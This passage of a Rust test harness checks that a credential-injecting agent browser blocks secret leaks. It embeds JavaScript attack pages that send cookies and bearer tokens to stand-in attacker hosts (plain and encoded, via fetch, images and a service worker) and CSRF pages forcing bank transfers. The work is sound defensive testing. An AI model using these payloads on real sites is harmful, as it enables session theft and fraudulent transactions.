  await step('dns-hex', () => sent(fetch(at(hex(tok)), {mode: 'no-cors'})));
  await step('dns-img', () => img(at(tok.toLowerCase())));
  await step('canary', () => sent(fetch('http://canary.attacker.test:' + AP + '/collect?canary=dns', {mode: 'no-cors'})));
}"#
        }
        "enc-raw" => ENCODED_RAW,
        "enc-percent" => ENCODED_PERCENT,
        "enc-hex" => ENCODED_HEX,
        "enc-base64" => ENCODED_BASE64,
        "enc-base64url" => ENCODED_BASE64URL,
        _ => return None,
    })
}

/// Sends each variant of each looted value in the URL, in a request header and in the body,
/// one request each, so every location is judged on its own.
macro_rules! encoded_attack {
    ($name:literal, $variants:literal) => {
        concat!(
            "const variants = s => ",
            $variants,
            r#";
async function run(tok, sid) {
  for (const [which, value] of [['tok', tok], ['sid', sid]]) {
    for (const [i, v] of variants(value).entries()) {
      await step('url ' + which + i, () => sent(fetch(A + '/collect?via=enc&d=' + v, {mode: 'no-cors'})));
      await step('header ' + which + i, () => sent(fetch(A + '/collect?via=enc-header', {method: 'POST', headers: {'X-Data': v}, body: 'x'})));
      await step('body ' + which + i, () => sent(fetch(A + '/collect?via=enc-body', {method: 'POST', mode: 'no-cors', body: 'd=' + v})));
    }
  }
  await step('canary', () => sent(fetch(A + '/collect?canary="#,
            $name,
            r#"', {mode: 'no-cors'})));
}"#
        )
    };
}

const ENCODED_RAW: &str = encoded_attack!("enc-raw", "[s]");
const ENCODED_PERCENT: &str = encoded_attack!("enc-percent", "[pct(s), pct(s).toLowerCase()]");
const ENCODED_HEX: &str = encoded_attack!("enc-hex", "[hex(s), hex(s).toUpperCase()]");
const ENCODED_BASE64: &str = encoded_attack!("enc-base64", "[b64(s), b64('x' + s), b64('xy' + s)]");
const ENCODED_BASE64URL: &str = encoded_attack!(
    "enc-base64url",
    "[b64url(s), b64url('x' + s), b64url('xy' + s)]"
);

/// `/echo?then=exfil`: the reflected page itself sends what it shows to the attacker.
const ECHO_EXFIL: &str = r#"<script>
(async () => {
  const t = document.getElementById('h').textContent;
  const out = [];
  try { await fetch('__A__/collect?via=echo', {method: 'POST', mode: 'no-cors', body: t}); out.push('post sent'); } catch (e) { out.push('post ' + e); }
  await new Promise(res => { const i = new Image(); i.onload = i.onerror = res; i.src = '__A__/img?via=echo&d=' + encodeURIComponent(t); });
  try { await fetch('__A__/collect?canary=echo', {mode: 'no-cors'}); out.push('canary sent'); } catch (e) { out.push('canary ' + e); }
  window.__done = out;
})();
</script>"#;

const SW_PAGE: &str = r#"<!doctype html><p>attacker page</p><script>
const up = window.opener || window.parent;
const ready = navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready);
ready.then(() => up.postMessage('registered', '*'), e => up.postMessage('register failed: ' + e, '*'));
addEventListener('message', async e => {
  try {
    const reg = await ready;
    const ch = new MessageChannel();
    const answer = new Promise(r => ch.port1.onmessage = m => r(m.data));
    reg.active.postMessage(e.data, [ch.port2]);
    up.postMessage(await answer, '*');
  } catch (er) { up.postMessage('error ' + er, '*'); }
});
</script>"#;

const SERVICE_WORKER: &str = r#"
self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('message', e => {
  const port = e.ports[0];
  e.waitUntil(fetch(e.data.url, {mode: 'no-cors'}).then(() => port.postMessage('sent'), er => port.postMessage('' + er)));
});
"#;

/// A page on the attacker that gives itself a cookie, then sends it and an `Authorization`
/// header of its own to itself: a site without a credential, carrying authentication material.
const UNLISTED: &str = r#"
window.attack = async () => {
  const out = [];
  const go = async (name, f) => { try { await f(); out.push(name + ': sent'); } catch (e) { out.push(name + ': ' + e); } };
  await go('setcookie', () => fetch('/setcookie'));
  out.push('document.cookie: ' + document.cookie);
  await go('cookie', () => fetch('/collect?via=unlisted-cookie'));
  await go('authorization', () => fetch('/collect?via=unlisted-auth', {credentials: 'omit', headers: {Authorization: 'Bearer attacker-own-token'}}));
  await go('canary', () => fetch('/collect?canary=unlisted', {credentials: 'omit'}));
  return out;
};
"#;

/// Cross-site request forgery from the attacker's page to the bank's `/transfer`.
fn csrf_page(kind: &str) -> Option<&'static str> {
    Some(match kind {
        "form" => {
            "<!doctype html><form method=POST action='__B__/transfer?via=form'>\
             <input name=amount value=1000><input name=to value=mallory></form>\
             <script>document.forms[0].submit()</script>"
        }
        "img" => "<!doctype html><img src='__B__/transfer?via=img&amount=1000'>",
        "fetch" => {
            "<!doctype html><script>fetch('__B__/transfer?via=fetch', {method: 'POST', \
             mode: 'no-cors', credentials: 'include', body: 'amount=1000'})</script>"
        }
        "iframe" => "<!doctype html><iframe src='__B__/transfer?via=iframe&amount=1000'></iframe>",
        "redirect" => {
            "<!doctype html><form method=POST><input name=amount value=1000></form><script>\
             document.forms[0].action = '/r307?to=' + encodeURIComponent('__B__/transfer?via=redirect');\
             document.forms[0].submit()</script>"
        }
        _ => return None,
    })
}

/// `/watch`: polls `document.cookie` (and listens to `cookieStore` where the browser offers it:
/// secure contexts only, so not on plain-http test sites) and, when asked, reports everything it
/// saw to the bank. The tab version embeds a same-site iframe that does the same.
const WATCH: &str = r#"<!doctype html><title>watch</title><p>watching</p><script>
const who = new URLSearchParams(location.search).get('who') || 'tab';
const seen = new Set();
let polls = 0;
const poll = () => { polls++; if (document.cookie) seen.add(document.cookie); };
setInterval(poll, 2);
if (window.cookieStore) cookieStore.addEventListener('change', e => {
  for (const c of [...e.changed, ...e.deleted]) seen.add('cookieStore: ' + c.name + '=' + c.value);
});
window.report = () => (poll(), fetch('/report', {method: 'POST', body: JSON.stringify({who, polls, seen: [...seen], cookieStore: !!window.cookieStore})}).then(() => polls));
if (who === 'tab') {
  const f = document.createElement('iframe'); f.src = '/watch?who=frame'; document.body.append(f);
  window.reportAll = async () => [await report(), await f.contentWindow.report()];
}
</script>"#;

// ---------------------------------------------------------------------------------------------
// The browser under test
// ---------------------------------------------------------------------------------------------

/// The mandate of these tests: the bank's credential from the brief, the attacker reachable
/// (so that only the credential policy stands between a page and the attacker), leaks blocked
/// without revoking so the same session can show the bank still works.
pub fn credential_mandate() -> Value {
    json!({
        "agent": "test-agent",
        "ttl_secs": 300,
        "egress": {
            "allow": ["bank.test", "attacker.test", "*.attacker.test", "attacker.localhost"],
            "private_networks": ["127.0.0.0/8"],
            "hosts": {
                "bank.test": "127.0.0.1",
                "attacker.test": "127.0.0.1",
                "canary.attacker.test": "127.0.0.1",
                "attacker.localhost": "127.0.0.1",
            },
            "ports": [super::TEST_PORTS],
        },
        "unlisted_credentials": "strip",
        "on_leak": "block",
        "credentials": [{
            "id": "bank",
            "site": "bank.test",
            "allowed_initiators": [],
            "cookies": [{"name": "sid", "value": SID, "path": "/", "secure": false, "http_only": true}],
            "headers": {"Authorization": format!("Bearer {TOKEN}")},
        }],
    })
}

/// Chromium as bare as chaperone's, without chaperone: launched as `nobody` (its own sandbox
/// on), DevTools on a loopback port, test names mapped by `--host-resolver-rules`.
pub struct BareChromium {
    child: Child,
    _dir: tempfile::TempDir,
    pub ws_url: String,
}

impl BareChromium {
    pub fn launch() -> BareChromium {
        let dir = tempfile::tempdir().unwrap();
        let root = nix::unistd::geteuid().is_root();
        let mut cmd = if root {
            let nobody = nix::unistd::User::from_name("nobody")
                .unwrap()
                .expect("user nobody");
            std::fs::set_permissions(
                dir.path(),
                std::os::unix::fs::PermissionsExt::from_mode(0o755),
            )
            .unwrap();
            nix::unistd::chown(dir.path(), Some(nobody.uid), Some(nobody.gid)).unwrap();
            let mut c = Command::new("setpriv");
            c.args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"]);
            c.arg("/usr/lib/chromium/chromium");
            c
        } else {
            Command::new("/usr/lib/chromium/chromium")
        };
        // chaperone's own flags, outside its sandbox and proxy, with a port instead of the pipe.
        cmd.args(
            chaperone::browser::chromium::direct_args()
                .into_iter()
                .filter(|a| a != "--remote-debugging-pipe"),
        )
        .args([
            "--remote-debugging-port=0",
            "--host-resolver-rules=MAP bank.test 127.0.0.1, MAP attacker.test 127.0.0.1, \
             MAP *.attacker.test 127.0.0.1, MAP attacker.localhost 127.0.0.1, \
             MAP plain.test 127.0.0.1",
        ])
        .arg(format!("--user-data-dir={}", dir.path().display()))
        .env("HOME", dir.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("spawn bare Chromium");
        let mut err = BufReader::new(child.stderr.take().unwrap());
        let mut ws_url = String::new();
        let mut line = String::new();
        while err.read_line(&mut line).unwrap_or(0) > 0 {
            if let Some(i) = line.find("ws://") {
                ws_url = line[i..].trim().to_string();
                break;
            }
            line.clear();
        }
        assert!(!ws_url.is_empty(), "bare Chromium printed no DevTools URL");
        std::thread::spawn(move || {
            let mut sink = Vec::new();
            let _ = err.read_to_end(&mut sink);
        });
        BareChromium {
            child,
            _dir: dir,
            ws_url,
        }
    }
}

impl Drop for BareChromium {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.child.id() as i32),
            nix::sys::signal::Signal::SIGTERM,
        );
        let _ = self.child.wait();
    }
}

pub enum Browser {
    Chaperone { sup: Supervisor, session: Value },
    Bare(BareChromium),
}

/// The sites and the browser under test.
pub struct World {
    pub sites: Sites,
    pub browser: Browser,
}

impl World {
    /// The sites, and a session with [`credential_mandate`] changed by `tweak` (or bare
    /// Chromium when [`bare`]).
    pub fn start(tweak: impl FnOnce(&mut Value)) -> World {
        let sites = Sites::start();
        let browser = if bare() {
            Browser::Bare(BareChromium::launch())
        } else {
            let sup = Supervisor::start();
            let mut m = credential_mandate();
            tweak(&mut m);
            let session = sup.session(&m);
            Browser::Chaperone { sup, session }
        };
        World { sites, browser }
    }

    pub fn is_bare(&self) -> bool {
        matches!(self.browser, Browser::Bare(_))
    }

    pub fn cdp_url(&self) -> String {
        match &self.browser {
            Browser::Chaperone { session, .. } => session["cdp_url"].as_str().unwrap().into(),
            Browser::Bare(b) => b.ws_url.clone(),
        }
    }

    pub fn sup(&self) -> Option<&Supervisor> {
        match &self.browser {
            Browser::Chaperone { sup, .. } => Some(sup),
            Browser::Bare(_) => None,
        }
    }

    pub fn session_id(&self) -> Option<String> {
        match &self.browser {
            Browser::Chaperone { session, .. } => Some(session["id"].as_str().unwrap().into()),
            Browser::Bare(_) => None,
        }
    }

    pub fn bank(&self, path: &str) -> String {
        format!("{}{path}", self.sites.bank_url)
    }

    pub fn attacker(&self, path: &str) -> String {
        format!("{}{path}", self.sites.attacker_url)
    }

    /// An agent connection. On bare Chromium the mandate's cookie is put in the browser's
    /// store, the way a naive credential injector would.
    pub async fn connect(&self) -> Cdp {
        let mut c = Cdp::connect(&self.cdp_url()).await;
        if self.is_bare() {
            let r = c
                .call(
                    "Storage.setCookies",
                    json!({"cookies": [{"name": "sid", "value": SID, "domain": "bank.test",
                        "path": "/", "httpOnly": true}]}),
                    None,
                )
                .await;
            assert!(r.get("error").is_none(), "{r}");
        }
        c
    }

    /// Opens a tab on `url` with the domains a real agent enables (so that every event they
    /// produce reaches the agent and its grep). On bare Chromium the page sends the mandate's
    /// bearer token on every request, standing in for injection.
    pub async fn open(&self, c: &mut Cdp, url: &str) -> String {
        self.open_with(c, url, true).await
    }

    /// [`World::open`] without the stand-in injection on bare Chromium.
    pub async fn open_with(&self, c: &mut Cdp, url: &str, inject: bool) -> String {
        let s = c.blank_page().await;
        for m in [
            "Page.enable",
            "Runtime.enable",
            "Log.enable",
            "Network.enable",
        ] {
            let r = c.call(m, json!({}), Some(&s)).await;
            assert!(r.get("error").is_none(), "{m}: {r}");
        }
        if inject && self.is_bare() {
            c.call(
                "Network.setExtraHTTPHeaders",
                json!({"headers": {"Authorization": format!("Bearer {TOKEN}")}}),
                Some(&s),
            )
            .await;
        }
        navigate(c, &s, url).await;
        s
    }

    /// Runs the bank page's `attack()` (with a user gesture, so popups are allowed) and
    /// returns its answer; asserts the page had the credentials to steal.
    pub async fn run_attack(&self, c: &mut Cdp, s: &str) -> Value {
        let r = c
            .call(
                "Runtime.evaluate",
                json!({"expression": "attack()", "awaitPromise": true, "returnByValue": true,
                    "userGesture": true}),
                Some(s),
            )
            .await;
        let v = r["result"]["result"]["value"].clone();
        eprintln!("[attack] {v}");
        assert_eq!(
            v["found"], true,
            "the page found no credentials in /echo, so it had nothing to steal: {r}"
        );
        v
    }

    /// [`World::run_attack`] for an attack that may end the session: `None` when the agent's
    /// connection ended before the page answered.
    pub async fn try_attack(&self, c: &mut Cdp, s: &str) -> Option<Value> {
        const ID: u64 = 900_001;
        c.send_raw(
            json!({"id": ID, "method": "Runtime.evaluate", "sessionId": s,
                "params": {"expression": "attack()", "awaitPromise": true, "returnByValue": true,
                    "userGesture": true}})
            .to_string(),
        )
        .await;
        loop {
            match c.recv().await {
                Ok(r) if r["id"] == ID => {
                    let v = r["result"]["result"]["value"].clone();
                    eprintln!("[attack] {v}");
                    assert_eq!(
                        v["found"], true,
                        "the page found no credentials in /echo: {r}"
                    );
                    return Some(v);
                }
                Ok(_) => continue,
                Err(e) => {
                    eprintln!("[attack] the agent's connection ended: {e:?}");
                    assert!(
                        self.sites.bank.requests_to("/echo").iter().any(|r| r.authenticated()),
                        "the bank's /echo never got the credentials, so the page had nothing to steal"
                    );
                    return None;
                }
            }
        }
    }

    /// Waits (bounded) until the attacker recorded the canary `canary=<name>`.
    pub async fn wait_canary(&self, name: &str) {
        let needle = format!("canary={name}");
        let sni = "canary.attacker.test";
        wait_for(&format!("the attacker to receive {needle}"), || {
            let all = self.sites.attacker.dump();
            all.contains(&needle) || (name == "wss" && all.contains(sni))
        })
        .await
        .unwrap_or_else(|e| panic!("{e}; the attacker got:\n{}", self.sites.attacker.dump()));
    }

    /// What the attacker holds of the secrets (in bare Chromium, not counting the stand-in
    /// injection's own headers).
    pub fn attacker_loot(&self) -> Vec<String> {
        let all = self.sites.attacker.everything();
        if self.is_bare() {
            secrets_in(&without_ambient_credentials(&all))
        } else {
            secrets_in(&all)
        }
    }

    /// The verdict of an exfiltration attack: on chaperone the attacker got nothing and the
    /// block is audited; on bare Chromium the attacker did get a secret (else the test could
    /// not fail).
    pub async fn judge_exfiltration(&self, what: &str) {
        if self.is_bare() {
            let got = wait_for(
                &format!("{what} to deliver a secret to the attacker"),
                || !self.attacker_loot().is_empty(),
            )
            .await;
            assert!(
                got.is_ok(),
                "{what} delivered no secret through bare Chromium, so this test cannot fail:\n{}",
                self.sites.attacker.dump()
            );
            eprintln!("[bare] {what}: attacker got {:?}", self.attacker_loot());
            return;
        }
        let sup = self.sup().unwrap();
        let r = sup.wait_audit("credential.exfiltration_blocked", |r| {
            r["event"] == "credential.exfiltration_blocked"
        });
        assert_eq!(r["credential"], "bank", "{r}");
        let loot = self.attacker_loot();
        assert!(
            loot.is_empty(),
            "{what}: the attacker received {loot:?}:\n{}",
            self.sites.attacker.dump()
        );
    }

    /// On bare Chromium: each of the attacker's requests tagged `via=<v>` for every `v` carried
    /// a secret in its URL, a header other than the stand-in's, or its body; so each place an
    /// attack page uses is proven to work on its own.
    pub fn assert_each_delivered(&self, vias: &[&str]) {
        for via in vias {
            let reqs: Vec<Request> = self
                .sites
                .attacker
                .requests()
                .into_iter()
                .filter(|r| r.query("via").as_deref() == Some(*via))
                .collect();
            let carried = reqs.iter().any(|r| {
                let mut text = r.target.clone().into_bytes();
                for (k, v) in &r.headers {
                    if !k.eq_ignore_ascii_case("authorization") && !k.eq_ignore_ascii_case("cookie")
                    {
                        text.extend_from_slice(format!("\n{k}: {v}").as_bytes());
                    }
                }
                text.extend_from_slice(&r.body);
                !secrets_in(&text).is_empty()
            });
            assert!(
                carried,
                "via={via} delivered no secret through bare Chromium: {reqs:?}"
            );
        }
    }

    /// Generic verdict: `leaked` must be true on bare Chromium (the test can fail) and false
    /// through chaperone.
    pub fn judge(&self, what: &str, leaked: bool, evidence: &str) {
        if self.is_bare() {
            assert!(
                leaked,
                "bare Chromium did not leak ({what}), so this test cannot fail: {evidence}"
            );
            eprintln!("[bare] {what}: leaked as expected");
        } else {
            assert!(!leaked, "{what}: {evidence}");
        }
    }

    /// The legitimate flow still works in the same session: the bank's account page, by name.
    pub async fn assert_bank_works(&self, c: &mut Cdp, s: &str) {
        navigate(c, s, &self.bank("/account")).await;
        let text = c
            .eval(s, "document.getElementById('msg').textContent")
            .await;
        assert_eq!(
            text, "welcome",
            "the bank's account page did not let the customer in"
        );
    }

    /// Neither the supervisor's log, nor the audit log, nor anything chaperone sent to the
    /// agent holds a secret in any form (only through chaperone: bare Chromium shows them).
    pub fn assert_nothing_leaked(&self, agent_frames: &[String]) {
        let Some(sup) = self.sup() else { return };
        assert_clean("the supervisor's stderr", sup.stderr_text().as_bytes());
        assert_clean(
            "the audit log",
            &std::fs::read(&sup.audit).unwrap_or_default(),
        );
        assert_clean(
            "CDP traffic to the agent",
            agent_frames.join("\n").as_bytes(),
        );
        for r in sup.audit_records() {
            if let Some(t) = r.get("token").and_then(Value::as_str) {
                assert!(
                    t.starts_with("fp:"),
                    "token identifier is not a fingerprint: {r}"
                );
            }
        }
    }
}

/// Runs a Node driver from `tests/clients` with its client's protocol log on (Playwright's
/// `pw:protocol`, Puppeteer's `puppeteer:protocol:*`); returns its verdict and the log, which
/// holds every CDP message the client received.
pub fn node_client_logged(script: &str, env: &[(&str, String)]) -> (Value, String) {
    let dir = super::repo().join("tests/clients");
    let mut cmd = Command::new("node");
    cmd.arg(dir.join(script))
        .current_dir(&dir)
        .env("DEBUG", "pw:protocol,puppeteer:protocol:*")
        .env("DEBUG_COLORS", "0")
        .stdin(Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.output().expect("run node");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let log = String::from_utf8_lossy(&out.stderr).into_owned();
    let line = stdout.lines().last().unwrap_or("");
    let verdict =
        serde_json::from_str(line).unwrap_or_else(|_| json!({"ok": false, "raw": stdout}));
    assert!(
        log.contains("RECV") || log.contains("◀"),
        "{script} logged no protocol traffic; is DEBUG honoured? {}",
        log.chars().take(2000).collect::<String>()
    );
    (verdict, log)
}

/// Navigates and waits (bounded) for the tab's load event.
pub async fn navigate(c: &mut Cdp, s: &str, url: &str) {
    let r = c.call("Page.navigate", json!({"url": url}), Some(s)).await;
    assert!(r.get("error").is_none(), "navigate {url}: {r}");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        assert!(Instant::now() < deadline, "{url} did not load within 30 s");
        match c.recv().await {
            Ok(v) if v["method"] == "Page.loadEventFired" && v["sessionId"] == json!(s) => return,
            Ok(_) => continue,
            Err(e) => panic!("connection ended while loading {url}: {e:?}"),
        }
    }
}

/// Evaluates `expr` in tab `s` until `pred` holds (bounded); returns the last value.
pub async fn wait_eval(
    c: &mut Cdp,
    s: &str,
    expr: &str,
    what: &str,
    pred: impl Fn(&Value) -> bool,
) -> Value {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let v = c.eval(s, expr).await;
        if pred(&v) {
            return v;
        }
        assert!(Instant::now() < deadline, "{what}: last value {v}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Polls `cond` (bounded, 20 s); Err names what never happened.
pub async fn wait_for(what: &str, cond: impl Fn() -> bool) -> Result<(), String> {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !cond() {
        if Instant::now() > deadline {
            return Err(format!("waited 20 s for {what}"));
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

/// Logs in through the bank's form in tab `s` and waits for the account page.
pub async fn login(w: &World, c: &mut Cdp, s: &str) {
    navigate(c, s, &w.bank("/login?auto=1")).await;
    wait_eval(
        c,
        s,
        "location.pathname + ' ' + (document.getElementById('msg') || {}).textContent",
        "the login to land on the account page",
        |v| v == "/account welcome",
    )
    .await;
}
